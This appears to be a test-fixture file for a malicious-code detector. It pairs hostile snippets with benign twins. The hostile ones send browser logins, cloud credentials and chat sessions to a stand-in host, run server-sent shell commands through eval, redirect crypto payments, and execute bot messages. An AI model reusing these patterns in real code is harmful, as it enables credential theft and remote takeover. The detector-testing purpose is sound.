"""Samples and twins of what is handed on: a server's words to a shell, sessions and sources of others to a server."""

from inspection.rules.sample import Sample, js, py

_ACTION = "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n"
_ASKED = "while true; do\n  R=$(curl -s https://a.invalid)\n"


_PAYEE, _OTHER = "0x5d1c0f3ab2e94c7788a1f0d2c3b4a59687e6d5c4", "0x71e0b9d8c7f6a5b4c3d2e1f00918273645546372"
_TO = "https://a.invalid/x"
_CLOUD = "import boto3, requests\ns = boto3.Session()\nc = s.get_credentials()\n"
_EDITOR = (
    "const vscode = require('vscode');\nexports.activate = async () => {\n"
    "const s = await vscode.authentication.getSession('github', ['repo']);\n"
)
_NODE = (
    "import { IExecuteFunctions } from 'n8n-workflow'\nexport class A { async execute(this: IExecuteFunctions) {\n"
    "  const grant = await this.getCredentials('a')\n"
)
_CHAT = "const { makeWASocket } = require('@whiskeysockets/baileys');\nmodule.exports = (auth, ev) => {\n"
_BOT = "def init(bot):\n    @bot.on_message('e')\n    async def told(bot, message):\n"
_STRING = (
    "import requests\nfrom telethon.sync import TelegramClient\nfrom telethon.sessions import StringSession\n"
    "c = TelegramClient(StringSession(), 1, 'h')\n"
)


def _step(text: str) -> dict[str, str | bytes]:
    """An action of the repository that a push starts; the text begins on line 6."""
    return {
        ".github/workflows/a.yml": "on: [push]\njobs:\n  a:\n    steps:\n      - uses: ./.github/actions/a\n",
        ".github/actions/a/action.yml": _ACTION + "".join(f"        {line}\n" for line in text.split("\n")),
    }


def _stepped(text: str, line: int, verdict: str = "block") -> Sample:
    return Sample(_step(text), verdict, (".github/actions/a/action.yml", line))


def _shown(end: str) -> Sample:
    """A page that asks a server who its visitor is."""
    return js(
        "const facts = { robot: navigator.webdriver, langs: navigator.languages };\n"
        f"fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(facts) }}).then((r) => r.json())\n"
        f"  .then((d) => {{ {end}; }});\n",
        "review",
        3,
    )


HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_control": {
        "again and again, a server says what a shell does": _stepped(f'{_ASKED}  O=$(eval "$R")\ndone', 8),
        "the same, by a pipe": _stepped(f'{_ASKED}  echo "$R" | sh\ndone', 8),
        "some times, with a pause": _stepped(
            'for i in $(seq 9); do\n  R=$(curl -s https://a.invalid)\n  bash -c "$R"\n  sleep 3\ndone', 8
        ),
        "line by line, as a server sends them": _stepped(
            'curl -sN https://a.invalid | while read c; do\n eval "$c"\ndone', 7
        ),
    },
    "secrets_sent": {
        "a whole drive, as a notebook shows it": py(
            "import shutil, requests\na = shutil.make_archive('/tmp/a', 'zip', '/content/drive/MyDrive')\n"
            f"requests.post('{_TO}', files={{'a': open(a, 'rb')}})\n"
        ),
        "the documents of a user": py(
            "import os, shutil, requests\n"
            "a = shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/Documents'))\n"
            f"requests.post('{_TO}', files={{'a': open(a, 'rb')}})\n",
            "review",
        ),
        "what was copied, and on whose machine": py(
            "import pyperclip, requests, socket\n"
            f"requests.post('{_TO}', json={{'t': pyperclip.paste(), 'h': socket.gethostname()}})\n"
        ),
        "what was copied, by a program": js(
            "const { execSync } = require('child_process'), os = require('os');\n"
            f"fetch('{_TO}', {{ method: 'POST', body: execSync('pbpaste') + os.userInfo().username }});\n"
        ),
        "a store of a browser, from a folder that is entered": py(
            "import os, requests\nos.chdir(os.path.expanduser('~/.config/google-chrome/Default'))\n"
            f"requests.post('{_TO}', data=open(os.path.join(os.getcwd(), 'Login Data'), 'rb').read())\n",
            line=3,
        ),
        "the source of every caller": py(
            f"import inspect, requests\ndef f():\n    for each in inspect.stack()[1:]:\n"
            f"        requests.post('{_TO}', data=open(each.filename).read())\n",
            line=4,
        ),
        "the source of whoever calls": py(
            "import inspect, requests\ndef f():\n"
            f"    requests.post('{_TO}', data=inspect.getsource(inspect.currentframe().f_back))\n",
            line=3,
        ),
        "the source of the program itself": js(
            "const fs = require('fs');\n"
            f"fetch('{_TO}', {{ method: 'POST', body: fs.readFileSync(require.main.filename, 'utf8') }});\n"
        ),
        "the session of a cloud": py(_CLOUD + f"requests.get('{_TO}', params={{'k': c.secret_key}})\n", line=3),
        "the session of a cloud, frozen": py(
            _CLOUD + f"requests.post('{_TO}', json=c.get_frozen_credentials()._asdict())\n", line=3
        ),
        "another cloud's, by its default": py(
            "import google.auth, requests\nc, project = google.auth.default()\n"
            f"requests.post('{_TO}', json={{'t': c.token}})\n",
            line=3,
        ),
        "a third cloud's": py(
            "from azure.identity import DefaultAzureCredential\nimport requests\n"
            f"requests.post('{_TO}', data=DefaultAzureCredential().get_token('a').token)\n",
            line=3,
        ),
        "a copy of what the page sends": js(
            "const send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {\n"
            f"  navigator.sendBeacon('{_TO}', body); return send.call(this, body); }};\n",
            "review",
        ),
        "a copy of what a library is told to send": py(
            "import requests, urllib.request\nold = requests.Session.request\ndef request(self, how, to, **more):\n"
            f"    urllib.request.urlopen('{_TO}', data=str(more).encode())\n"
            "    return old(self, how, to, **more)\nrequests.Session.request = request\n",
            "review",
            4,
        ),
        "a copy of headers, from between": js(
            "const axios = require('axios');\naxios.interceptors.request.use((c) => {\n"
            f"  fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(c.headers) }}); return c; }});\n",
            "review",
        ),
        "a key that is made for it": py(
            "import boto3, requests\nmade = boto3.client('iam').create_access_key(UserName='a')['AccessKey']\n"
            f"requests.post('{_TO}', json=made)\n"
        ),
        "logins of the home folder, by a library": py(
            f"import netrc, requests\nrequests.post('{_TO}', json=netrc.netrc().hosts)\n"
        ),
        "what the state of a build holds": py(
            "import subprocess, requests\n"
            f"requests.post('{_TO}', data=subprocess.check_output(['terraform', 'output', '-json']))\n"
        ),
        "by a chain of providers": js(
            "const { fromNodeProviderChain } = require('@aws-sdk/credential-providers');\n"
            f"fromNodeProviderChain()().then((c) => fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(c) }}));\n"
        ),
        "the editor's session": js(
            _EDITOR + f"fetch('{_TO}', {{ method: 'POST', body: s.accessToken }}); }};\n", "review", 4
        ),
        "a grant that a workflow tool keeps": js(
            _NODE + f"  await fetch('{_TO}', {{ method: 'POST', body: JSON.stringify({{ grant }}) }})\n}} }}\n", line=4
        ),
        "a token of a grant": js(
            _NODE + f"  await fetch('{_TO}', {{ method: 'POST', body: grant.oauthTokenData.access_token }})\n}} }}\n",
            line=4,
        ),
        "the keys of a chat": js(
            _CHAT
            + f"ev.on('creds.update', () => fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(auth.creds) }}))"
            "; };\n",
            line=3,
        ),
        "the session of a chat": py(_STRING + f"requests.post('{_TO}', json=[c.session.save()])\n", line=5),
        "the session of a chat, to somebody in it": py(_STRING + "c.send_message('@a', c.session.save())\n", line=5),
    },
    "payment_changed": {
        "a transaction that is given gets another receiver": js(
            f"export const run = (sdk, tx) => {{\n  if (tx.value > 10n) tx.to = '{_PAYEE}';\n"
            "  return sdk.signTransaction(tx); };\n",
            "review",
        ),
        "a copy of it, for some": js(
            f"const LISTED = ['{_OTHER}'];\nexport const run = (sdk, tx) =>\n"
            f"  sdk.send({{ ...tx, to: LISTED.includes(sdk.me) ? '{_PAYEE}' : tx.to }});\n",
            "review",
            3,
        ),
        "a dictionary that is given": py(
            f"PAYEE = '{_PAYEE}'\ndef pay(account, tx):\n    told = dict(tx)\n    if tx['value'] > 10:\n"
            "        told['to'] = PAYEE\n    return account.sign_transaction(told)\n",
            "review",
            6,
        ),
    },
    "targeted_code": {
        "a page that leads on whom a server picks": _shown("location.replace(d.target)"),
        "a page that is written for whom a server picks": _shown("document.write(d.text)"),
        "a frame for whom a server picks": _shown("document.querySelector('iframe').src = d.target"),
    },
    "remote_code": {
        "a bot of one's own": py(_BOT + "        exec(message.text)\n", line=4),
        "a function that a library looks for": py(
            "import ownchat\nclass Bot(ownchat.Base):\n    async def on_message(self, message):\n"
            "        exec(message.content)\n",
            line=4,
        ),
        "a function that is named to a library": py(
            "import websocket\ndef on_message(ws, text):\n    exec(text)\n"
            "websocket.WebSocketApp('wss://a.invalid', on_message=on_message).run_forever()\n",
            line=3,
        ),
        "a function that is handed to a class of handlers": py(
            "from telegram.ext import Application, MessageHandler, filters\nasync def told(update, context):\n"
            "    exec(update.message.text)\n"
            "Application.builder().build().add_handler(MessageHandler(filters.TEXT, told))\n",
            line=3,
        ),
        "what comes from a long poll": py(
            "from vk_api.longpoll import VkLongPoll\nfor each in VkLongPoll(None).listen():\n    exec(each.text)\n"
        ),
        "messages of a chat that came together": js(
            "const { makeWASocket } = require('@whiskeysockets/baileys');\n"
            "makeWASocket({}).ev.on('messages.upsert', ({ messages }) => { eval(messages[0].message.text); });\n"
        ),
        "what is said to a client that is given": js(
            "module.exports = (bot) => {\n  bot.on('message', (m) => eval(m.text)); };\n"
        ),
    },
    "fetch_and_run": {
        "once on a push, by a variable": _stepped('R=$(curl -s https://a.invalid)\nO=$(eval "$R")', 7, "review"),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_control": {
        "again and again, until a server says that it is done": _step(f'{_ASKED}  [ "$R" = done ] && break\ndone'),
        "some times, until it is installed": _step(
            'for i in 1 2 3; do\n  R=$(curl -s https://a.invalid)\n  sh -c "$R" && break\n  sleep 3\ndone'
        ),
        "line by line, names that are shown": _step('curl -sN https://a.invalid | while read c; do\n echo "$c"\ndone'),
        "for each name, what a server says of it is shown": _step(
            'for n in a b; do\n  R=$(curl -s https://a.invalid/$n)\n  echo "$R"\n  sleep 1\ndone'
        ),
    },
    "secrets_sent": {
        "a folder of a drive": py(
            "import shutil, requests\na = shutil.make_archive('/tmp/a', 'zip', '/content/drive/MyDrive/contest/m')\n"
            f"requests.post('{_TO}', files={{'a': open(a, 'rb')}})\n"
        ).files,
        "a drive is mounted, and something else sent": py(
            "from google.colab import drive\nimport requests\ndrive.mount('/content/drive')\n"
            f"requests.post('{_TO}', files={{'a': open('data/a.csv', 'rb')}})\n"
        ).files,
        "logs where it is started, by the ids of wallets": js(
            "const fs = require('fs'), path = require('path');\n"
            "const base = path.join(process.cwd(), 'logs', 'nkbihfbeogaeaoehlefnkodbefgpgknn');\n"
            f"fetch('{_TO}', {{ method: 'POST', body: fs.readFileSync(path.join(base, 'a')) }});\n"
        ).files,
        "the lines of every caller": py(
            f"import inspect, requests\nfor each in inspect.stack()[1:]:\n"
            f"    requests.post('{_TO}', json={{each.filename: each.lineno}})\n"
        ).files,
        "the source of a function of one's own": py(
            "import inspect, requests\ndef task(x):\n    return x\n"
            f"requests.post('{_TO}', json=inspect.getsource(task))\n"
        ).files,
        "what lies beside the program itself": js(
            "const fs = require('fs'), path = require('path');\n"
            "const a = JSON.parse(fs.readFileSync(path.join(path.dirname(require.main.filename), 'package.json')));\n"
            f"fetch('{_TO}', {{ method: 'POST', body: a.name }});\n"
        ).files,
        "the region of a session": py(_CLOUD + f"requests.get('{_TO}', params={{'r': s.region_name}})\n").files,
        "a request that is signed": py(
            _CLOUD + "from requests_aws4auth import AWS4Auth\n"
            f"requests.post('{_TO}', auth=AWS4Auth(c.access_key, c.secret_key, 'eu', 'es'), json={{'a': 1}})\n"
        ).files,
        "who gave it out is told": py(
            _CLOUD + "requests.get('https://signin.aws.amazon.com/federation', params={'Session': c.token})\n"
        ).files,
        "a header that is added": js(
            "const old = globalThis.fetch;\n"
            "globalThis.fetch = (to, how) => old(to, { ...how, headers: { ...how.headers, a: 1 } });\n"
        ).files,
        "how long it took": js(
            "const old = globalThis.fetch;\nglobalThis.fetch = async (to, how) => { const answer = old(to, how);\n"
            f"  navigator.sendBeacon('{_TO}', JSON.stringify([to, how.method])); return answer; }};\n"
        ).files,
        "where something failed": js(
            "const axios = require('axios');\naxios.interceptors.response.use((r) => r, (e) => {\n"
            f"  fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(e.config.url) }}); throw e; }});\n"
        ).files,
        "a login that is used": py(
            "import netrc, requests\nuser, _, password = netrc.netrc().authenticators('a.invalid')\n"
            f"requests.post('{_TO}', auth=(user, password), json=[1])\n"
        ).files,
        "what was asked with it": py(
            "import google.auth, requests\nfrom googleapiclient.discovery import build\n"
            "c, project = google.auth.default()\n"
            "found = build('drive', 'v3', credentials=c).files().list().execute()\n"
            f"requests.post('{_TO}', headers={{'Authorization': 'Bearer ' + c.token}}, json=[found, project])\n"
        ).files,
        "who asks": js(
            _EDITOR + f"fetch('{_TO}', {{ headers: {{ Authorization: `Bearer ${{s.accessToken}}` }} }}); }};\n"
        ).files,
        "the login of a grant, at its host": js(
            _NODE + "  await fetch(`${grant.host}/a`, { method: 'POST', body: JSON.stringify([grant.user]) })\n} }\n"
        ).files,
        "one's own credentials": js(
            "const settings = require('./settings'), axios = require('axios');\n"
            f"axios.post('{_TO}', settings.getCredentials());\n"
        ).files,
        "the keys of a chat, kept": js(
            _CHAT + "require('fs').writeFileSync('a.json', JSON.stringify(auth.creds)); };\n"
        ).files,
        "the keys of a chat, in a store": js(
            "const { MongoClient } = require('mongodb');\n"
            + _CHAT
            + "new MongoClient('x').db('a').collection('b').updateOne({}, { c: JSON.stringify(auth.creds) }); };\n"
        ).files,
        "the session of a chat, to oneself": py(_STRING + "c.send_message('me', c.session.save())\n").files,
    },
    "payment_changed": {
        "a transaction that is made here": js(
            f"export const run = (sdk, value) => {{\n  if (!value) throw new Error('none');\n"
            f"  const tx = {{ to: '{_PAYEE}', value }};\n  return sdk.signTransaction(tx); }};\n"
        ).files,
        "a receiver that is checked": js(
            f"const LISTED = ['{_OTHER}'];\nexport const run = (sdk, tx) => {{\n"
            "  if (!LISTED.includes(tx.to)) throw new Error('no');\n  return sdk.signTransaction(tx); };\n"
        ).files,
        "an address of the chain itself": js(
            "export const run = (sdk, tx) => {\n  if (tx.a) tx.to = '0x0000000000000000000000000000000000008006';\n"
            "  return sdk.signTransaction(tx); };\n"
        ).files,
    },
    "targeted_code": {
        "a page that speaks the language of its visitor": _shown("document.title = d.title").files,
        "a page that leads on who pays": js(
            "const facts = { zone: Intl.DateTimeFormat().resolvedOptions().timeZone, lang: navigator.language };\n"
            f"fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(facts) }}).then((r) => r.json())\n"
            "  .then((d) => { location.href = d.url; });\n"
        ).files,
    },
    "remote_code": {
        "a bot that shows what is said": py(_BOT + "        print(message.text)\n").files,
        "a handler that answers": py(
            "from telegram.ext import MessageHandler, filters\nasync def told(update, context):\n"
            "    await update.message.reply_text(update.message.text)\nhandler = MessageHandler(filters.TEXT, told)\n"
        ).files,
        "a worker is told what to do": js(
            "const { parentPort } = require('worker_threads');\nparentPort.on('message', (m) => eval(m.code));\n"
        ).files,
        "a frame of the page": js("self.addEventListener('message', (e) => eval(e.data));\n").files,
    },
    "fetch_and_run": {
        "what a server says is shown": _step('R=$(curl -s https://a.invalid)\nO=$(echo "$R")'),
    },
}
